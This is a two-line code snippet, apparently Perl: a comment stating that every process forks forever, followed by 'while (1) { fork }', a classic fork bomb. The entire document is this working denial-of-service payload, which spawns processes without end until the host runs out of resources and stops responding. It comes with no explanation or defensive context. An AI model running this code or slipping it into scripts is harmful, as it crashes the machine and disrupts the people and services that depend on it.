# Every process forks for ever, whatever is refused.
while (1) { fork }
